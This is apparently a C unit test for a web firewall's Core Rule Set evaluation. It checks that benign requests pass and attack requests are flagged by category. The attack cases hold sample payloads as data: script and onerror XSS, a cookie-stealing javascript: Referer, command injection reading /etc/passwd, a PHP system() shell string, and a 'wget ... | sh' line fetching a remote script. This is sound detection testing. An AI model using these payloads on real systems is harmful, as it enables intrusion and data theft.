// SPDX-License-Identifier: GPL-2.0
/*
 * The worker's CRS evaluation (user/inspect/crs.c) on Debian's rules: the
 * shipped base configuration loads with the scoped rule files, benign
 * requests stay clean, attacks in a query, a form, a JSON body and a header
 * are flagged with the right category, and the verdict carries the path
 * without its query.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>
#include "inspect/crs.h"
#include "inspect/http1.h"

#define RULES	"/usr/share/modsecurity-crs/rules"

static struct crs *crs;
static struct moat_insp_verdict last;
static size_t n_seen;

static void on_request(void *ctx, const struct h1_request *r)
{
	memset(&last, 0, sizeof(last));
	assert_int_equal(crs_eval(crs, r, "198.18.1.2", 40000, &last), 0);
	n_seen++;
}

/*
 * Parses one raw request and evaluates it; returns the verdict's result.
 * A \x01 in raw stands for the Content-Length header and the blank line,
 * counted from what follows it.
 */
static int eval(const char *in)
{
	struct h1_conn *c = h1_new(64 * 1024, on_request, NULL);
	const char *mark = strchr(in, '\x01');
	char raw[4096];

	if (mark)
		snprintf(raw, sizeof(raw), "%.*sContent-Length: %zu\r\n\r\n%s", (int)(mark - in), in,
			 strlen(mark + 1), mark + 1);
	else
		snprintf(raw, sizeof(raw), "%s", in);
	n_seen = 0;
	assert_int_equal(h1_feed(c, raw, strlen(raw)), 0);
	h1_free(c);
	assert_int_equal(n_seen, 1);
	return last.result;
}

static int setup(void **state)
{
	char err[512];

	crs = crs_load(RULES, 1, err, sizeof(err));
	if (!crs)
		fprintf(stderr, "crs_load: %s\n", err);
	return crs ? 0 : -1;
}

static int teardown(void **state)
{
	crs_free(crs);
	return 0;
}

static void test_benign(void **state)
{
	static const char *const reqs[] = {
		"GET /search?q=hello+world&lang=en HTTP/1.1\r\nHost: gw\r\nAccept: */*\r\n\r\n",
		"POST /login HTTP/1.1\r\nHost: gw\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		"Cookie: session=abc123\r\nContent-Length: 29\r\n\r\nuser=alice&password=s3cr3t%21",
		"POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
		"\001{\"title\":\"Notes\",\"tags\":[\"a\",1]}",
		"GET /docs/intro.html HTTP/1.1\r\nHost: gw\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n",
	};

	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		assert_int_equal(eval(reqs[i]), MOAT_INSP_CLEAN);
		assert_int_equal(last.n_rules, 0);
	}
}

struct attack {
	const char *raw;
	enum moat_insp_category category;
};

static void test_attacks(void **state)
{
	static const struct attack reqs[] = {
		{ "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\nHost: gw\r\n\r\n",
		  MOAT_INSP_XSS },
		{ "POST /ping HTTP/1.1\r\nHost: gw\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		  "\001host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd", MOAT_INSP_RCE },
		{ "POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
		  "\001{\"name\":\"<img src=x onerror=alert(1)>\"}", MOAT_INSP_XSS },
		{ "GET /x?f=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E HTTP/1.1\r\nHost: gw\r\n\r\n",
		  MOAT_INSP_PHP },
		{ "GET / HTTP/1.1\r\nHost: gw\r\nReferer: javascript:alert(document.cookie)\r\n\r\n",
		  MOAT_INSP_XSS },
		{ "POST /upload HTTP/1.1\r\nHost: gw\r\n"
		  "Content-Type: multipart/form-data; boundary=XyZ\r\n\001"
		  "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n"
		  ";wget http://198.51.100.9/x.sh -O- | sh\r\n--XyZ--\r\n", MOAT_INSP_RCE },
	};

	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		assert_int_equal(eval(reqs[i].raw), MOAT_INSP_DETECTED);
		assert_int_equal(last.category, reqs[i].category);
		assert_true(last.n_rules > 0);
	}
}

static void test_path_without_query(void **state)
{
	eval("GET /search/x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\nHost: gw\r\n\r\n");
	assert_string_equal(last.path, "/search/x");
	assert_string_equal(last.method, "GET");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_path_without_query),
	};

	return cmocka_run_group_tests_name("crs", tests, setup, teardown);
}
